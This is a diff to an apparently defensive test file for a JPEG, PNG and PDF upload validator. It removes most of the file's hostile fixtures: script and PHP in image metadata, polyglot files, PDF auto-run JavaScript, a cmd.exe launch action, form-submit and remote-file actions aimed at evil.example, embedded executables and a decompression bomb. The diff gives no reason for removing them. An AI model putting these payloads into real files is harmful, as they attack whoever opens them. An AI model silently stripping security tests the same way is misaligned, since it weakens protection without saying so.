@@ -12,7 +12,6 @@ import {
   PNG_START,
   SCAN,
   segment,
-  stream,
   TABLE,
 } from '#server/testing/prescriptions.ts'
 
@@ -95,8 +94,6 @@ const TRAILERS: Record<string, Buffer | string> = {
   'a second file': jpeg(),
 }
 
-/** JPEG's own part for remarks. */
-const remark = (content: string) => jpeg({ between: segment(0xfe, text(content)) })
 const jpegOf = (...parts: Buffer[]) => all(JPEG_START, ...parts, JPEG_END)
 const ROWS = Buffer.alloc(64, 7)
 const FRAME = frame({ width: 640, height: 480 })
@@ -124,30 +121,17 @@ const JPEGS: Record<string, Buffer> = {
   'with a mark that there is not': jpegOf(segment(0x02, [0]), TABLE, FRAME, SCAN, ROWS),
   'with bytes between its parts': jpegOf(TABLE, Buffer.of(0x3c, 0x61), FRAME, SCAN, ROWS),
   'of a thousand passes': jpegOf(TABLE, FRAME, ...Array.from({ length: 1000 }, () => SCAN)),
-  'with a script in a remark': remark('<script>alert(1)</script>'),
-  'with a program in a remark': remark(PHP),
-  'with a page in a remark': remark(`--><!DOCTYPE html>${SVG}`),
-  'with a page in its camera’s words': jpeg({ between: segment(0xe1, text(`Exif\0\0${HTML}`)) }),
-  'that is a PDF as well': remark('%PDF-1.7\n1 0 obj'),
-  'with an archive in a remark': remark(ZIP.toString('latin1')),
 }
 
 const IHDR = header({ width: 32, height: 24 })
 const IDAT = chunk('IDAT', deflateSync(Buffer.alloc(33 * 24)))
 const IEND = chunk('IEND')
 const pngOf = (...parts: Buffer[]) => all(PNG_START, ...parts)
-const pngWith = (...between: Buffer[]) => pngOf(IHDR, ...between, IDAT, IEND)
 
 /** The same bytes but for one. */
 function flipped(bytes: Buffer, at: number): Buffer {
   const other = Buffer.from(bytes)
   other[at < 0 ? bytes.length + at : at]! ^= 1 // within the file
-  return other
-}
-
-const huge = (length: number) => {
-  const other = Buffer.from(IDAT)
-  other.writeUInt32BE(length)
   return other
 }
 
@@ -157,92 +141,21 @@ const PNGS: Record<string, Buffer> = {
   'cut off in its data': png().subarray(0, 60),
   'of nothing but its signature': PNG_START,
   'of nothing but its header': pngOf(IHDR),
-  'without data': pngOf(IHDR, IEND),
-  'with empty data': pngOf(IHDR, chunk('IDAT'), IEND),
   'without its header': pngOf(IDAT, IEND),
   'whose header is not first': pngOf(chunk('tEXt', 'a'), IHDR, IDAT, IEND),
-  'with two headers': pngOf(IHDR, IHDR, IDAT, IEND),
   'with a bit of its header turned': flipped(png(), 20),
-  'with a bit of its data turned': flipped(png(), 70),
-  'with a wrong checksum of its header': flipped(pngOf(IHDR, IDAT, IEND), 32),
   'with a wrong checksum at its end': flipped(png(), -1),
   'with something in its end': pngOf(IHDR, IDAT, chunk('IEND', 'x')),
-  'with a part longer than the file': pngOf(IHDR, huge(0x7fffffff), IEND),
-  'with a part of four gigabytes': pngOf(IHDR, huge(0xffffffff), IEND),
   'of no width': pngOf(header({ width: 0, height: 9 }), IDAT, IEND),
   'of no height': pngOf(header({ width: 9, height: 0 }), IDAT, IEND),
   'of two thousand million a side': pngOf(header({ width: 2 ** 31, height: 2 ** 31 }), IDAT, IEND),
   'of 50,000 by 50,000': pngOf(header({ width: 50_000, height: 50_000 }), IDAT, IEND),
-  'of colours that there are not': pngOf(
-    header({ width: 9, height: 9 }, [8, 5, 0, 0, 0]),
-    IDAT,
-    IEND,
-  ),
-  'of a depth that there is not': pngOf(
-    header({ width: 9, height: 9 }, [3, 0, 0, 0, 0]),
-    IDAT,
-    IEND,
-  ),
-  'packed in another way': pngOf(header({ width: 9, height: 9 }, [8, 0, 1, 0, 0]), IDAT, IEND),
-  'filtered in another way': pngOf(header({ width: 9, height: 9 }, [8, 0, 0, 1, 0]), IDAT, IEND),
-  'woven in another way': pngOf(header({ width: 9, height: 9 }, [8, 0, 0, 0, 2]), IDAT, IEND),
   'whose header is too short': pngOf(chunk('IHDR', Buffer.alloc(12)), IDAT, IEND),
-  'with a part that no browser knows': pngWith(chunk('EVIL', 'x')),
-  'with a part that has no name': pngWith(chunk('\0\0\0\0', 'x')),
-  'with a script in its words': pngWith(chunk('tEXt', `Comment\0${HTML}`)),
-  'with a program in its words': pngWith(chunk('tEXt', `Comment\0${PHP}`)),
-  'with an archive in its words': pngWith(chunk('zzZz', ZIP)),
-  'that is a PDF as well': pngWith(chunk('tEXt', '%PDF-1.4\n1 0 obj')),
 }
 
-const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
-const packed = (content: string, type = '/Type /ObjStm /N 1 /First 5') =>
-  pdf({ objects: [stream(`7 0 ${content}`, type)] })
 const whole = pdf().toString('latin1')
 
 const PDFS: Record<string, Buffer> = {
-  'with a script that starts by itself': pdf({ catalog: `/OpenAction ${SCRIPT}` }),
-  'with a script behind a reference': pdf({
-    catalog: '/OpenAction 5 0 R',
-    objects: ['<< /S /URI >>'],
-  }),
-  'with a script among its names': pdf({
-    catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`,
-  }),
-  'with a script in disguise': pdf({ objects: ['<< /S /J#61vaScr#69pt /JS (1) >>'] }),
-  'with a script that is all disguise': pdf({
-    objects: ['<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (1) >>'],
-  }),
-  'with a script in packed objects': packed(SCRIPT),
-  'with a script in packed objects that say not what they are': packed(SCRIPT, ''),
-  'with a disguised script in packed objects': packed('<< /S /Java#53cript >>'),
-  'with a script behind a remark': pdf({ objects: [`<< /S % x\n/JavaScript >>`] }),
-  'with a script inside of what is said to be a picture': pdf({
-    objects: [`<< /Subtype /Image /Length 60 >>\nstream\n${SCRIPT}\nendstream`],
-  }),
-  'with an action that starts by itself': pdf({
-    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
-  }),
-  'with actions of a page': pdf({
-    catalog: '/AA << /O << /S /URI /URI (http://evil.example) >> >>',
-  }),
-  'with actions behind a reference': pdf({ catalog: '/AA 5 0 R', objects: ['<< >>'] }),
-  'that starts a program': pdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
-  'that starts a program, packed': packed('<< /S /Launch /F (cmd.exe) >>'),
-  'that sends a form': pdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
-  'that fetches data': pdf({ objects: ['<< /S /ImportData /F (x) >>'] }),
-  'that opens another file': pdf({ objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>'] }),
-  'that opens a file in itself': pdf({ objects: ['<< /S /GoToE >>'] }),
-  'with a film': pdf({ objects: ['<< /Subtype /RichMedia >>'] }),
-  'with a file in it': pdf({ objects: [stream('MZ', '/Type /EmbeddedFile')] }),
-  'with files among its names': pdf({
-    catalog: '/Names << /EmbeddedFiles 5 0 R >>',
-    objects: ['[]'],
-  }),
-  'with a file pinned to its page': pdf({ objects: ['<< /Subtype /FileAttachment >>'] }),
-  'with a form of another kind': pdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: ['[]'] }),
-  'that is locked': pdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard >>'] }),
-  'that is locked in disguise': pdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< >>'] }),
   'without its end': pdf().subarray(0, -7),
   'cut off in the middle': pdf().subarray(0, 300),
   'cut off in its table': text(whole.slice(0, whole.indexOf('trailer'))),
@@ -253,17 +166,6 @@ const PDFS: Record<string, Buffer> = {
   'whose table is something else': text(whole.replace(/startxref\n\d+/, 'startxref\n12')),
   'with the middle taken out': text(whole.slice(0, 60) + whole.slice(160)),
   'behind another PDF': all(pdf(), pdf({ catalog: '/Lang (en)' })),
-  'whose packed objects are broken': pdf({
-    objects: [flipped(stream(`1 0 ${'a'.repeat(99)}`), -14)],
-  }),
-  'whose packed objects are packed in another way': pdf({
-    objects: ['<< /Type /ObjStm /N 1 /First 4 >>\nstream\n3720203C3C3E3E>\nendstream'],
-  }),
-  'whose packed objects are a bomb': packed(' '.repeat(40 * 2 ** 20)),
-  'of endless packed parts': pdf({ objects: Array.from({ length: 5001 }, () => stream('q')) }),
-  'with a page of the web in it': pdf({ objects: [`(${HTML})`] }),
-  'with a program in it': pdf({ objects: [`(${PHP})`] }),
-  'that is an archive as well': pdf({ objects: [all('<< >>\nstream\n', ZIP, '\nendstream')] }),
 }
 
 const WHOLE = { 'a JPEG': jpeg(), 'a PNG': png(), 'a PDF': pdf() }
